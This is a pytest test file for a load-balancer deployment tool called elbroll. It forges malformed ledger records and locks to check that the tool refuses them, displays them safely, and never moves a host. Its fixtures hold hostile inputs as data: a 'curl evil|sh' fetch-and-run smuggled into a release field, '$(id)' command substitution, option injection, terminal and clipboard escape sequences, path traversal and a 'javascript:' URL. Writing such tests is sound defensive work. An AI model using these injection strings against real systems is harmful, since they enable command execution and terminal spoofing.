"""What a stranger writes into the ledger is shown or refused, and never moves a host (S-5, S-9, F-11)."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from cli.shell import wait_for
from cli.witness import everybody_serves, moves
from hostile.forging import Forger

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from elbroll.demo.world import World
    from hostile.conftest import Said

STRANGER = "i-0123456789abcdef0"


@pytest.fixture
def forger(world: World) -> Iterator[Forger]:
    """Finds an empty ledger, and leaves one."""
    made = Forger(world)
    wait_for(lambda: everybody_serves(world))
    yield made
    made.wipe()


DEPLOY = ("deploy", "--lb", "demo", "--release", "v7")
UNREADABLE = {
    "garbage": lambda forger, host: forger.text(f"host/{host}", 'PWNED {"\x1b[2J[/bold]\u202e'),
    "huge": lambda forger, host: forger.text(f"host/{host}", "[" * 4096),
    "a newer schema": lambda forger, host: forger.record(host, schema=2),
    "an unknown state": lambda forger, host: forger.record(host, state="in-service!"),
    "a target without a port": lambda forger, host: forger.record(host, out=[{"pool": "tg/demo/0"}]),
    "a pool that AWS would not name so": lambda forger, host: forger.record(host, out=[{"pool": "\x1b]52;c;eA==\x07"}]),
    "a release that is a command": lambda forger, host: forger.record(host, after="v1; curl evil|sh"),
    "a run that is a command": lambda forger, host: forger.record(host, by="$(id)"),
    "a run that is an option": lambda forger, host: forger.record(host, by="--yes"),
    "another host's record": lambda forger, host: forger.record(host, host=STRANGER),
}


@pytest.mark.rule("F-11", "S-5", "S-9")
@pytest.mark.parametrize("forge", UNREADABLE.values(), ids=UNREADABLE)
def test_an_unreadable_record_is_refused_shown_and_never_overwritten(
    world: World, forger: Forger, call: Callable[..., Said], forge: Callable[[Forger, str], None]
) -> None:
    host, before = world.hosts[0].instance, moves(world)
    forge(forger, host)
    kept = forger.history(f"host/{host}")
    said = [call(*DEPLOY), call("restore", host), call("status", "--lb", "demo", "--check")]

    assert [each.code for each in said] == [5, 5, 7], [each.text for each in said]
    assert all("cannot be read" in each.text for each in said[:2])
    assert not any(word in each.text for each in said for word in ("PWNED", "\x1b", "\u202e"))
    assert (forger.history(f"host/{host}"), moves(world)) == (kept, before)


@pytest.mark.rule("F-11", "I-2")
def test_no_command_that_writes_goes_past_a_record_that_cannot_be_read(
    world: World, forger: Forger, call: Callable[..., Said]
) -> None:
    host, name, before = world.hosts[0].instance, world.hosts[0].name, moves(world)
    forger.secret(f"host/{host}", "a record of another kind of parameter")
    kept = forger.history(f"host/{host}")
    said = [
        call("restore", "--lb", "demo"),
        call("restore", "--lb", "demo", "--if-needed"),
        call("restore", name, "--lb", "demo"),
        call("restore", name, "--give-up", "extra"),
        call("drain", name, "--yes"),
        call("exec", "--lb", "demo", "--yes", "--", "true"),
    ]

    assert [each.code for each in said] == [5] * len(said), [each.text for each in said]
    assert all(f"the record of {name} cannot be read" in each.text for each in said), [each.text for each in said]
    assert (forger.history(f"host/{host}"), moves(world)) == (kept, before)


@pytest.mark.rule("F-11")
def test_a_record_of_a_host_seen_nowhere_that_cannot_be_read_stops_no_other_fleet_and_is_told(
    forger: Forger, call: Callable[..., Said]
) -> None:
    forger.record(STRANGER, schema=2)
    said = call("restore", "--lb", "demo", "--if-needed")

    assert said.code == 0, said.text
    assert f"the record of {STRANGER} cannot be read" in said.text


@pytest.fixture(scope="module")
def far_pool(world: World) -> str:
    """A target group in another network of the same account."""
    vpc = world.client("ec2").create_vpc(CidrBlock="10.77.0.0/16")["Vpc"]["VpcId"]
    made = world.client("elbv2").create_target_group(
        Name="far", Protocol="HTTP", Port=80, VpcId=vpc, TargetType="instance"
    )
    return "tg/" + made["TargetGroups"][0]["TargetGroupArn"].partition(":targetgroup/")[2]


@pytest.mark.rule("S-5", "I-12")
@pytest.mark.parametrize(("state", "lie"), [("held", "another machine"), ("registering", "another network")])
def test_a_record_that_cannot_be_true_registers_nobody(
    world: World, forger: Forger, call: Callable[..., Said], far_pool: str, state: str, lie: str
) -> None:
    host, before = world.hosts[0], moves(world)
    pool = next(iter(world.pools.values()))
    entries = {
        "another machine": {"pool": pool.id, "id": world.hosts[1].instance, "port": 22},
        "another network": {"pool": far_pool, "port": 80},
    }
    forger.record(host.instance, state=state, out=[entries[lie]], after="v7")
    kept = forger.history(f"host/{host.instance}")
    said = [call(*DEPLOY), call("restore", host.instance)]

    assert [each.code for each in said] == [5, 5], [each.text for each in said]
    assert all("cannot have been taken out of" in each.text for each in said)
    assert all({"another machine": "another machine", "another network": "vpc-"}[lie] in each.text for each in said)
    assert (forger.history(f"host/{host.instance}"), moves(world)) == (kept, before)


@pytest.fixture(scope="module")
def strange_pool(world: World) -> str:
    """A target group in the hosts' own network, in which none of them has ever served."""
    elb, arn = world.client("elbv2"), next(iter(world.pools.values())).arn
    vpc = elb.describe_target_groups(TargetGroupArns=[arn])["TargetGroups"][0]["VpcId"]
    made = elb.create_target_group(Name="payments", Protocol="HTTP", Port=80, VpcId=vpc, TargetType="instance")
    return "tg/" + made["TargetGroups"][0]["TargetGroupArn"].partition(":targetgroup/")[2]


@pytest.mark.rule("S-5", "I-12")
def test_a_record_in_a_pool_that_the_fleet_has_nothing_to_do_with_registers_nobody_and_locks_nothing(
    world: World, forger: Forger, call: Callable[..., Said], strange_pool: str
) -> None:
    first, second = world.hosts
    forger.record(first.instance, state="registering", out=[{"pool": strange_pool, "port": 80}], after="v7")
    forger.record(second.instance, out=[{"pool": _own(world), "port": world.pools["demo"].ports[second.instance]}])
    refused = [call(*DEPLOY), call("restore", first.instance), call("restore", first.instance, "--lb", "demo")]
    other = call("restore", second.instance)

    assert [each.code for each in refused] == [5, 5, 5], [each.text for each in refused]
    assert all("payments:80: no other host of this fleet serves there" in each.text for each in refused[:2])
    assert other.code == 0, other.text
    assert forger.history(f"lock/{strange_pool}") == []
    assert not any(strange_pool in repr(move) for move in moves(world))


@pytest.mark.rule("S-5")
def test_a_record_in_a_pool_that_the_config_ignores_is_refused_by_deploy(
    world: World, forger: Forger, call: Callable[..., Said]
) -> None:
    host, extra = world.hosts[0], world.pools["extra"]
    config = world.directory / "ignoring.toml"
    limits = '[lb.demo]\ntarget_groups = ["demo"]\nother_pools = "ignore"\n\n[lb.demo.deploy]'
    config.write_text(world.config.read_text().replace("[lb.demo.deploy]", limits))
    config.chmod(0o600)
    forger.record(host.instance, out=[{"pool": extra.id, "port": extra.ports[host.instance]}])
    before = moves(world)
    said = call(*DEPLOY, "--config", str(config))

    assert said.code == 5
    assert 'is recorded in extra, and other_pools is "ignore"' in said.text
    assert moves(world) == before


@pytest.mark.rule("S-5", "I-8", "F-35")
def test_records_of_hosts_and_pools_that_do_not_exist_are_shown_and_move_nobody(
    world: World, forger: Forger, call: Callable[..., Said]
) -> None:
    host = world.hosts[1].instance
    forger.record(STRANGER, name="[/red]\x1b[2Jghost\n::error::x", out=[{"pool": _own(world), "port": 22}])
    forger.record(host, out=[{"pool": "tg/never`id`/../../x", "port": 80}, {"pool": "clb/[/red]$(id)"}])
    forger.value("host/a/b", run="badbad", by="badbad", host="a/b", state="held", why="roll", since="x")
    before = (moves(world), forger.history(f"host/{STRANGER}"), forger.history(f"host/{host}"))
    said = [call("plan", "--lb", "demo"), call("status", "--lb", "demo")]
    refused = [call("restore", STRANGER), call("restore", "--lb", "demo")]

    assert said[1].code == 0, said[1].text
    assert all(each.code in {0, 4, 5} for each in refused), [each.text for each in refused]
    assert "no longer exist" in said[0].text
    assert not any("\x1b" in each.text or "\n::error" in each.text for each in (*said, *refused))
    assert not any("elbroll has a bug" in each.text for each in (*said, *refused)), [each.text for each in refused]
    assert (moves(world), forger.history(f"host/{STRANGER}"), forger.history(f"host/{host}")) == before


LOCKS = {
    "a newer schema": lambda forger, key: forger.value(key, schema=9, run="badbad", state="free"),
    "an unknown state": lambda forger, key: forger.value(key, run="badbad", state="open"),
    "free over nothing": lambda forger, key: forger.text(key, json.dumps({"schema": 1, "base": 7, "state": "free"})),
    "held with escapes": lambda forger, key: forger.value(
        key,
        run="bad\x1b[2J",
        state="held",
        user="\x1b[1A[/x]",
        machine="m\n::error::x",
        pid=1,
        command="x",
        started="2026-11-22T21:30:00Z",
        beat="2026-11-22T21:30:00Z",
        url="javascript:\u202e",
    ),
}


@pytest.mark.rule("S-9", "F-11", "F-7")
@pytest.mark.parametrize("forge", LOCKS.values(), ids=LOCKS)
def test_a_forged_lock_is_never_free_and_never_overwritten(
    world: World, forger: Forger, call: Callable[..., Said], forge: Callable[[Forger, str], None]
) -> None:
    key, before = f"lock/{_own(world)}", moves(world)
    forge(forger, key)
    kept = forger.history(key)
    said = [call(*DEPLOY), call("status", "--lb", "demo")]

    assert [each.code for each in said] == [6, 0], [each.text for each in said]
    assert "is locked by" in said[0].text
    assert not any("\x1b" in each.text or "\n::error" in each.text for each in said)
    assert (forger.history(key), moves(world)) == (kept, before)


@pytest.mark.rule("S-9", "F-11")
def test_a_lock_that_cannot_be_read_is_freed_by_its_version_and_no_other_is(
    world: World, forger: Forger, call: Callable[..., Said]
) -> None:
    mine, foreign = f"lock/{_own(world)}", "lock/tg/elsewhere/1"
    forger.value(mine, schema=9, run="badbad", state="free")
    forger.value(foreign, schema=9, run="badbad", state="free")
    kept = forger.history(foreign)
    named = call(*DEPLOY).text
    said = [call("unlock", "demo", name, *yes) for name, yes in (("v2", ("--yes",)), ("v1", ()), ("v1", ("--yes",)))]

    assert "elbroll unlock demo v1" in named
    assert [each.code for each in said] == [5, 2, 0], [each.text for each in said]
    assert "somebody unknown (v1)" in said[0].text
    assert "demo: locked by somebody unknown" in said[2].text
    assert json.loads(forger.history(mine)[-1])["state"] == "free"
    assert forger.history(foreign) == kept


def _own(world: World) -> str:
    return str(world.pools["demo"].id)
